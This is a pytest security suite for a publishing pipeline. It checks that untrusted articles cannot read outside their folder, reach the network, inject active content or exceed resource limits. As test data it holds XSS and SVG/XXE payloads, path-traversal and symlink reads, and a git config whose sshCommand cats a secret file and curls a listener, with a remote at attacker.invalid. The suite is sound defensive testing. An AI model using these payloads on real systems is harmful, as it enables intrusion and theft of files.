"""An untrusted article may not read outside its folder, reach the network, put active content in
front of readers, or take more than its time and memory.

Each case spoils the good `victim` article (tests/untrusted.py) and builds it with the real
command line. The `case` fixture then checks that the planted secret (files outside the article
folder) is in no edition, PDF streams and EPUB members included, and in no message, and that the
loopback listener counted no request. Refusals exit with status 6 (UnsafeContentError) and leave
the earlier good editions byte-identical.
"""

from __future__ import annotations

import os
import re
import zipfile

import pytest

from untrusted import EDITIONS, SECRET, article_text, readable_strings

UNSAFE = 6
LIMIT = 7


def line_of(text: str, needle: str) -> int:
    return next(number for number, line in enumerate(text.split("\n"), start=1) if needle in line)


# --- front matter paths: citeproc reads them outside pandoc's --sandbox -------------------------

@pytest.mark.parametrize("field_name, target", [
    ("bibliography", "secret.bib"),
    ("bibliography", "secret.yaml"),
    ("bibliography", "secret.json"),
    ("csl", "secret.csl"),
    ("citation-abbreviations", "secret.json"),
])
@pytest.mark.parametrize("spelling", ["absolute", "dotdot", "symlink"])
def test_front_matter_paths_outside_the_folder_are_refused(case, field_name, target, spelling):
    outside = case.secret_file.parent / target
    if spelling == "absolute":
        value = str(outside)
    elif spelling == "dotdot":
        value = os.path.relpath(outside, case.folder)
    else:
        (case.folder / f"link{outside.suffix}").symlink_to(outside)
        value = f"link{outside.suffix}"
    text = article_text(**{field_name: value})
    case.article(text)
    result = case.build()
    where = "" if field_name == "csl" else f":{line_of(text, field_name + ':')}"
    case.assert_refused(result, UNSAFE, field_name, f"article.md{where}", "outside the article folder")


@pytest.mark.parametrize("field_name", ["bibliography", "csl", "citation-abbreviations"])
def test_front_matter_urls_are_refused_without_a_request(case, listener, field_name):
    suffix = {"bibliography": "refs.bib", "csl": "style.csl", "citation-abbreviations": "abbr.json"}[field_name]
    case.article(article_text(**{field_name: f"{listener.url}/{suffix}"}))
    case.assert_refused(case.build(), UNSAFE, field_name, "URL")


def test_original_file_outside_the_folder_is_refused(case):
    case.article(article_text(original={"file": str(case.secret_file)}))
    case.assert_refused(case.build(), UNSAFE, "original", "outside the article folder")


def test_article_md_linking_outside_is_refused(case):
    (case.folder / "article.md").unlink()
    (case.folder / "article.md").symlink_to(case.secret_file)
    case.assert_refused(case.build(), UNSAFE, "article.md", "outside the article folder")


# --- images ----------------------------------------------------------------------------------

@pytest.mark.parametrize("spelling", ["absolute", "dotdot", "symlink", "url", "file-url", "protocol-relative"])
def test_images_from_outside_the_folder_are_refused(case, listener, spelling):
    secret_png = case.secret_file.parent / "secret.png"
    src = {
        "absolute": str(secret_png),
        "dotdot": os.path.relpath(secret_png, case.folder),
        "symlink": "innocent.png",
        "url": f"{listener.url}/chart.png",
        "file-url": secret_png.as_uri(),
        "protocol-relative": f"//127.0.0.1:{listener.url.rsplit(':', 1)[1]}/chart.png",
    }[spelling]
    if spelling == "symlink":
        (case.folder / "innocent.png").symlink_to(secret_png)
    body = f"Text before.\n\n![A picture.]({src})\n\nText after.\n"
    text = article_text(body=body)
    case.article(text)
    result = case.build()
    case.assert_refused(result, UNSAFE, f"article.md:{line_of(text, '![A picture.]')}", "image")


# --- raw HTML: refused with file and line, for all three editions at once ----------------------

RAW_HTML = [
    ("<script>alert(1)</script>", "<script>"),
    ('<p onclick="alert(1)">Click</p>', "onclick="),
    ("[a link](javascript:alert(1))", "javascript:"),
    ('<a href="jav&#x09;ascript:alert(1)">hidden scheme</a>', "javascript:"),
    ('<a href="JaVaScRiPt:alert(1)">shouting scheme</a>', "javascript:"),
    ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>', "data:"),
    ('<iframe src="{url}/frame"></iframe>', "<iframe>"),
    ('<object data="{url}/object"></object>', "<object>"),
    ('<embed src="{url}/embed">', "<embed>"),
    ('<form action="{url}/post"><input name="q"></form>', "<form>"),
    ('<link rel="attachment" href="{secret_uri}">', "<link>"),
    ('<a rel="attachment" href="chart.png">attach</a>', "attachment"),
    ('<link rel="stylesheet" href="{url}/style.css">', "<link>"),
    ('<meta http-equiv="refresh" content="0;url={url}/">', "<meta>"),
    ('<base href="{url}/">', "<base>"),
    ("<style>@import url({url}/style.css);</style>", "<style>"),
    ('<div style="background: url({url}/bg.png)">styled</div>', "style="),
    ("<svg><script>alert(1)</script></svg>", "<svg>"),
    ("```{{=html}}\n<script>alert(1)</script>\n```", "<script>"),
    ('<img src="chart.png" alt="x" srcset="{url}/big.png 2x">', "srcset="),
    ('<video poster="{url}/poster.png"></video>', "<video>"),
    ('[a span]{{onmouseover="alert(1)"}}', "onmouseover="),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<math>"),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noscript>"),
]


@pytest.mark.parametrize("snippet, word", RAW_HTML, ids=[word + str(i) for i, (_s, word) in enumerate(RAW_HTML)])
def test_active_raw_html_is_refused_with_file_and_line(case, listener, snippet, word):
    snippet = snippet.format(url=listener.url, secret_uri=case.secret_file.as_uri())
    body = f"# Introduction\n\nA harmless paragraph [@doe2001].\n\n{snippet}\n\nMore text.\n"
    text = article_text(body=body)
    case.article(text)
    result = case.build()
    lines = snippet.split("\n")
    line = line_of(text, next((part for part in lines if word.rstrip("=:>") in part), lines[0]))
    case.assert_refused(result, UNSAFE, word, f"article.md:{line}", "refused")


def test_active_html_in_the_front_matter_is_refused(case):
    text = article_text(title="A title <img src=x onerror=alert(1)>")
    case.article(text)
    case.assert_refused(case.build(), UNSAFE, "onerror=", f"article.md:{line_of(text, 'title:')}", "'title'")


def test_active_html_brought_into_the_text_by_a_meta_shortcode_is_refused_at_its_line(case, listener):
    """Quarto's {{< meta key >}} copies a front matter value into the body: the refusal names the
    line where the value is written, the only place to fix it."""
    text = article_text(
        body="# Introduction\n\nSee {{< meta note >}} here [@doe2001].\n",
        note=f'<script>fetch("{listener.url}/meta")</script>',
    )
    case.article(text)
    case.assert_refused(case.build(), UNSAFE, "<script>", f"article.md:{line_of(text, 'note:')}", "refused")


def test_html_nested_past_what_the_parser_reads_is_refused_not_passed_unread(case, listener):
    """libxml2 stops reading at 256 nested elements without an error: a handler after them went
    unchecked, and a course pack's page pasted the description with it."""
    payload = f'<img alt="" src="x" onerror="fetch(\'{listener.url}/deep\')">'
    text = article_text(description="A summary " + "<span>" * 300 + "deep" + "</span>" * 300 + " " + payload)
    case.article(text)
    case.assert_refused(case.build(), 3, "'description' is nested", f"article.md:{line_of(text, 'description:')}")


def test_html_past_what_the_parser_reads_in_size_is_refused_not_passed_unread(case, listener):
    """A comment of 10 MB is the other limit at which libxml2 stops reading without an error."""
    payload = f'<img alt="" src="x" onerror="fetch(\'{listener.url}/big\')">'
    text = article_text(description="A summary <!-- " + "x" * 10_000_001 + " --> " + payload)
    case.article(text)
    case.assert_refused(case.build(), UNSAFE, "'description'", "10 MB", f"article.md:{line_of(text, 'description:')}")


@pytest.mark.parametrize("depth", [100, 300])
def test_a_front_matter_field_nested_deeper_than_the_layout_takes_is_refused_with_its_line(case, depth):
    """Past the parser's own limit (256) too: the nesting is what the author must fix (exit 3)."""
    text = article_text(title="A title " + "<span>" * depth + "deep" + "</span>" * depth)
    case.article(text)
    case.assert_refused(case.build(), 3, "the front matter field 'title' is nested", f"article.md:{line_of(text, 'title:')}")


def test_a_javascript_address_of_the_original_is_refused_with_its_line(case):
    """The original's record is published (citation_public_url, the RIS and CSL-JSON downloads),
    and held to http(s) like the article's own `url:`."""
    text = article_text(original={"record": {"type": "article-journal", "title": "Before", "URL": "javascript:alert(1)"}})
    case.article(text)
    case.assert_refused(case.build(), 3, "'javascript:alert(1)' in original: record: is not a web address",
                        f"article.md:{line_of(text, 'URL:')}")


@pytest.mark.parametrize("changes, key, words", [
    ({"citation": {"url": "javascript:alert(3)", "container-title": "A Journal"}}, "url", "in citation: is not a web address"),
    ({"citation": {"doi": "javascript:alert(4)", "container-title": "A Journal"}}, "doi", "in citation: is not a DOI"),
    ({"doi": "javascript:alert(5)"}, "doi", "in doi: is not a DOI"),
])
def test_a_javascript_address_in_the_articles_own_record_is_refused_with_its_line(case, changes, key, words):
    """Quarto's citation: url and doi become citation_public_url, citation_doi and the downloads'
    URL and DOI, which citation managers follow (a second red-team review)."""
    text = article_text(**changes)
    case.article(text)
    case.assert_refused(case.build(), 3, words, f"article.md:{line_of(text, key + ':')}")


def test_an_xml_base_that_is_no_relative_address_is_refused(case, listener):
    body = f'# Target {{#tgt}}\n\n<p xml:base="javascript:fetch(\'{listener.url}/base\')//">A <a href="#tgt">link</a>.</p>\n'
    text = article_text(body=body)
    case.article(text)
    case.assert_refused(case.build(), UNSAFE, "xml:base=", f"article.md:{line_of(text, 'xml:base')}")


def test_every_refused_construct_is_listed(case, listener):
    body = "<script>alert(1)</script>\n\n<iframe src=\"x\"></iframe>\n\n<p onclick=\"x\">p</p>\n"
    case.article(article_text(body=body))
    result = case.build()
    case.assert_refused(result, UNSAFE, "<script>", "<iframe>", "onclick=")


SVG_ATTACKS = {
    "script": '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n</svg>',
    "handler": '<svg xmlns="http://www.w3.org/2000/svg"\n onload="alert(1)">\n<rect width="5" height="5"/></svg>',
    "remote-image": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
                    '<image xlink:href="{url}/x.png" width="5" height="5"/>\n</svg>',
    "file-image": '<svg xmlns="http://www.w3.org/2000/svg">\n<image href="{secret_uri}" width="5" height="5"/>\n</svg>',
    "entity": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "{secret_uri}">]>\n'
              '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "foreign-object": '<svg xmlns="http://www.w3.org/2000/svg">\n<foreignObject><iframe/></foreignObject>\n</svg>',
}


@pytest.mark.parametrize("attack", sorted(SVG_ATTACKS))
def test_svg_images_with_active_or_fetching_content_are_refused(case, listener, attack):
    case.write("figure.svg", SVG_ATTACKS[attack].format(url=listener.url, secret_uri=case.secret_file.as_uri()))
    case.article(article_text(body="Text.\n\n![A figure.](figure.svg)\n"))
    case.assert_refused(case.build(), UNSAFE, "figure.svg", "SVG")


# --- what is allowed still builds, and still reaches nothing -------------------------------------

def test_harmless_html_links_and_raw_latex_build_without_fetching(case, listener):
    body = (
        "# Introduction\n\nPress <kbd>Ctrl</kbd>+<kbd>C</kbd>, see <abbr title=\"HyperText\">HTML</abbr> "
        f"and [the listener]({listener.url}/page) [@doe2001].\n\n- [ ] a task\n- [x] a done task\n\n"
        "Before a page break.\n\n\\newpage\n\nAfter it.\n\n![A small chart.](chart.png)\n"
    )
    text = article_text(body=body)
    case.article(text)
    result = case.build()
    assert result.status == 0, result.text
    assert f"article.md:{line_of(text, chr(92) + 'newpage')}: raw tex" in result.err and "left out" in result.err
    for name in EDITIONS:
        for chunk in readable_strings(case.edition(name).read_bytes(), name):
            lowered = chunk.lower()
            # The HTML edition's own JSON-LD metadata is the one script allowed (it escapes "<").
            scripts = re.findall(rb"<script[^>]*>", lowered)
            assert all(tag == b'<script type="application/ld+json">' for tag in scripts), scripts
            assert b"javascript:" not in lowered
            assert not re.search(rb"<[a-z][^>]*\son[a-z]+\s*=", lowered)
    html = case.edition("html").read_text(encoding="utf-8")
    assert f"{listener.url}/page" in html and "<kbd>Ctrl</kbd>" in html


# --- WeasyPrint's URL fetcher ------------------------------------------------------------------

def test_fetcher_reads_only_data_and_the_allowed_folders(case, listener):
    from weasyprint.urls import FatalURLFetchingError

    from pubpipe.editions.fetcher import SafeURLFetcher

    (case.folder / "inside-link.png").symlink_to(case.secret_file.parent / "secret.png")
    fetcher = SafeURLFetcher([case.folder])
    chart = case.folder / "chart.png"
    assert fetcher.fetch(chart.as_uri()).read() == chart.read_bytes()
    assert fetcher.fetch("data:text/plain,hello").read() == b"hello"
    refused = [
        case.secret_file.as_uri(),
        (case.folder / "inside-link.png").as_uri(),
        (case.folder / ".." / ".." / "outside" / "secret.txt").as_uri(),
        "file://example.org" + chart.as_posix(),
        f"{listener.url}/x.png",
        f"https://127.0.0.1:{listener.url.rsplit(':', 1)[1]}/x.png",
        "ftp://127.0.0.1/x.png",
    ]
    for url in refused:
        with pytest.raises(FatalURLFetchingError):
            fetcher.fetch(url)


# --- limits ------------------------------------------------------------------------------------

def test_pandoc_time_limit(case, monkeypatch):
    monkeypatch.setenv("PUBPIPE_PANDOC_TIMEOUT", "2")
    case.article(article_text(body="Text " + "[" * 30 + "x\n"))
    case.assert_refused(case.build(), LIMIT, "pandoc", "time limit of 2 s", "PUBPIPE_PANDOC_TIMEOUT")


def test_pandoc_memory_limit(case, monkeypatch):
    # This pandoc is linked with -H64m, so a smaller -M is raised to 64M; a long article exceeds that.
    monkeypatch.setenv("PUBPIPE_PANDOC_MEMORY", "64M")
    paragraphs = "".join(f"Paragraph {n} with *emphasis* and [a link](https://example.org/{n}).\n\n" for n in range(4000))
    case.article(article_text(body=paragraphs))
    case.assert_refused(case.build(), LIMIT, "pandoc", "memory limit of 64M", "PUBPIPE_PANDOC_MEMORY")


def test_weasyprint_time_limit(case, monkeypatch):
    monkeypatch.setenv("PUBPIPE_PDF_TIMEOUT", "0.001")
    case.assert_refused(case.build(), LIMIT, "WeasyPrint", "time limit", "PUBPIPE_PDF_TIMEOUT")


@pytest.mark.parametrize("line", ["{%a " * 60000, "{{<a " * 60000, "\\@ref(" * 60000])
def test_a_line_of_unclosed_tags_is_read_in_time_in_proportion_to_it(line):
    """The build's own process has no time limit; a search for Liquid tags, shortcodes and bookdown
    references scanned to the line's end from every opening, in time the square of the line (a
    line of 120 KB took 38 s of CPU). Run under a CPU limit ten times what it needs now, the old
    search is stopped by the kernel; the new one never comes near it."""
    import subprocess
    import sys

    program = ("import resource, sys; resource.setrlimit(resource.RLIMIT_CPU, (20, 20)); "
               "from pubpipe.load.foreign_syntax import foreign_syntax; "
               "print(len(foreign_syntax('x ' + sys.stdin.read(), 1)))")
    result = subprocess.run([sys.executable, "-c", program], input=line, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("call", [
    "import pathlib, tempfile; folder = pathlib.Path(tempfile.mkdtemp()); (folder / 'article.md').write_text("
    "\"---\\ntitle: T\\nauthor:\\n  - name: A. Writer\\n    email: 'a@\" + '.' * 60000 + \"@'\\n    corresponding: true\\n"
    "---\\n\\nText.\\n\"); from pubpipe.load.article import load_article; print(load_article(folder).metadata.notices)",
    "from pubpipe.editions.pdf import _is_address; print(_is_address('a/' * 60000 + ' x'))",
    "from pubpipe.load.language import NOT_PROSE; print(len(NOT_PROSE.sub(' ', '<!--\\n' + '<' * 120000 + '\\n-->')))",
    "from pubpipe.editions.citation_formats import page_range; print(page_range({'page': '1' + ' ' * 80000 + 'x'}))",
    "from pubpipe.load.citation import _without_written_suffix; print(_without_written_suffix('a' + ' ' * 80000 + 'x'))",
], ids=["e-mail", "link text", "language", "page range", "name suffix"])
def test_the_fields_a_second_review_found_are_read_in_time_in_proportion_to_them(call):
    """Four more searches of the build's own process took time in the square of a value an article
    chooses (a second red-team review): each now runs far inside a CPU limit that stops the old."""
    import subprocess
    import sys

    program = "import resource; resource.setrlimit(resource.RLIMIT_CPU, (20, 20)); " + call
    result = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr


def test_a_long_word_before_a_note_call_is_split_in_time_in_proportion_to_it():
    import subprocess
    import sys

    program = ("import resource; resource.setrlimit(resource.RLIMIT_CPU, (20, 20)); "
               "import lxml.html; from pubpipe.editions.noterefs import keep_with_word; "
               "p = lxml.html.fromstring('<p>' + 'x' * 200000 + ' <a class=\"footnote-ref\">1</a></p>'); "
               "keep_with_word(p[0]); print(len(p), repr(p.text[-2:]))")  # a space before the call: left as it is
    result = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert result.returncode == 0 and result.stdout.strip() == "1 'x '", result.stderr


@pytest.mark.parametrize("case", ["pubpipe"], indirect=True)
def test_weasyprint_memory_limit_on_a_huge_table(case):
    """In a fresh process, as users run it: a test session's freed heap would let the child grow
    without asking the kernel for more address space. Through pubpipe only: make's part in a
    limit of the layout step (status 7, the good editions kept) is test_weasyprint_time_limit's."""
    rows = "\n".join(f"| {n} | {'word ' * 12} | {n * 7} |" for n in range(1500))
    case.article(article_text(body=f"A huge table.\n\n| A | B | C |\n|---|---|---|\n{rows}\n"))
    # 4 MiB above what the worker has mapped when the job starts. The warm-up may leave some of
    # that mapped but free, so the table is made large enough to need far more than any such slack.
    result = case.run(env={"PUBPIPE_PDF_MEMORY": "4M"})
    case.assert_refused(result, LIMIT, "WeasyPrint", "memory limit", "PUBPIPE_PDF_MEMORY")


def test_the_secret_really_is_readable(case):
    """Guards the other tests: the planted secret exists, so 'not found' means 'not leaked'."""
    assert SECRET in case.secret_file.read_text(encoding="utf-8")


def test_an_articles_own_git_config_runs_nothing(case, tmp_path):
    """An undated article's timestamp comes from git; a .git shipped inside the article folder
    could make `git log` run any program (a forged signature plus gpg.program)."""
    import subprocess

    marker = tmp_path / "git-ran-the-articles-program"
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\ntouch '{marker}'\nexit 1\n")
    evil.chmod(0o755)
    case.article(article_text(date=None))
    env = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b",
           "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}

    def git(*args: str, **kwargs) -> str:
        return subprocess.run(["git", *args], cwd=case.folder, env=env, check=True, capture_output=True,
                              text=True, **kwargs).stdout.strip()

    git("init", "-q")
    git("add", ".")
    git("commit", "-q", "-m", "article")
    signed = (f"tree {git('rev-parse', 'HEAD^{tree}')}\nauthor a <a@b> 1600000000 +0000\n"
              "committer a <a@b> 1600000000 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n AAAA\n"
              " -----END PGP SIGNATURE-----\n\nsigned\n")
    git("update-ref", "HEAD", git("hash-object", "-t", "commit", "-w", "--stdin", input=signed))
    git("config", "log.showSignature", "true")
    git("config", "gpg.program", str(evil))
    result = case.build()
    assert result.status == 0, result.text
    assert not marker.exists()


def test_an_article_folder_laid_out_as_a_bare_repository_runs_nothing(case, listener, tmp_path):
    """git takes a folder holding HEAD, objects/ and refs/ for a repository and obeys its config:
    a promisor remote made `git log` fetch through core.sshCommand, a command of the article's.
    The folder sits in the editor's own repository, whose last commit still dates the article."""
    import subprocess

    marker = tmp_path / "git-ran-the-articles-command"
    case.article(article_text(date=None))
    case.write("HEAD", "ref: refs/heads/main\n")
    case.write("refs/heads/main", "1" * 40 + "\n")
    (case.folder / "objects").mkdir()
    config = (f"[core]\n\trepositoryformatversion = 1\n\tbare = true\n"
              f"\tsshCommand = \"touch '{marker}'; cat '{case.secret_file}'; curl -s {listener.url}/git; false\"\n"
              "[extensions]\n\tpartialClone = origin\n"
              "[remote \"origin\"]\n\turl = ssh://attacker.invalid/repo\n\tpromisor = true\n")
    case.write("config", config)
    env = {"GIT_AUTHOR_DATE": "2019-05-06T07:08:09+00:00", "GIT_COMMITTER_DATE": "2019-05-06T07:08:09+00:00",
           "GIT_AUTHOR_NAME": "e", "GIT_AUTHOR_EMAIL": "e@d", "GIT_COMMITTER_NAME": "e", "GIT_COMMITTER_EMAIL": "e@d",
           "HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
    for command in (["init", "-q"], ["add", "source"], ["commit", "-q", "-m", "the editor's project"]):
        subprocess.run(["git", *command], cwd=case.root, env=env, check=True, capture_output=True)
    result = case.build("--formats", "epub")
    assert result.status == 0, result.text
    assert not marker.exists(), "git ran the article's command"
    assert case.folder.joinpath("config").read_text(encoding="utf-8") == config  # and wrote nothing there
    with zipfile.ZipFile(case.edition("epub")) as book:
        assert b"2019-05-06T07:08:09Z" in book.read("EPUB/content.opf")  # the editor's repository answered


ORDINARY_SVGS = {
    "public-doctype": (
        '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
        '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#036"/></linearGradient>'
        '<rect id="r" width="10" height="10"/></defs>'
        '<use xlink:href="#r" style="fill: url(#g)"/><rect x="20" width="10" height="10" fill="url(#g)"/></svg>\n'
    ),
    "style-sheet-and-fragments": (
        '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">\n'
        "<style>@media (prefers-color-scheme: dark) { rect { fill: url(#g) } }</style>\n"
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#036"/></linearGradient>'
        '<clipPath id="c"><rect width="9" height="9"/></clipPath></defs>\n'
        '<rect width="10" height="10" fill="url(#g)" clip-path="url(\'#c\')" style="stroke: url(#g)"/>\n</svg>\n'
    ),
}


@pytest.mark.parametrize("kind", sorted(ORDINARY_SVGS))
def test_an_ordinary_svg_with_fragment_links_builds(case, kind):
    case.write("figure.svg", ORDINARY_SVGS[kind])
    case.article(article_text(body="Text [@doe2001].\n\n![An ordinary figure.](figure.svg)\n"))
    result = case.build()
    assert result.status == 0, result.text


@pytest.mark.parametrize("formats", EDITIONS)
def test_the_policy_holds_whichever_edition_is_built(case, formats):
    case.article(article_text(body="Text.\n\n<script>alert(1)</script>\n"))
    case.assert_refused(case.build("--formats", formats), UNSAFE, "<script>")


def test_ftp_mailto_and_tel_links_are_plain_links(case):
    body = "See [an archive](ftp://ftp.example.org/pub/), [write](mailto:a@example.org), [call](tel:+100) [@doe2001].\n"
    case.article(article_text(body=body))
    result = case.build("--formats", "html")
    assert result.status == 0, result.text
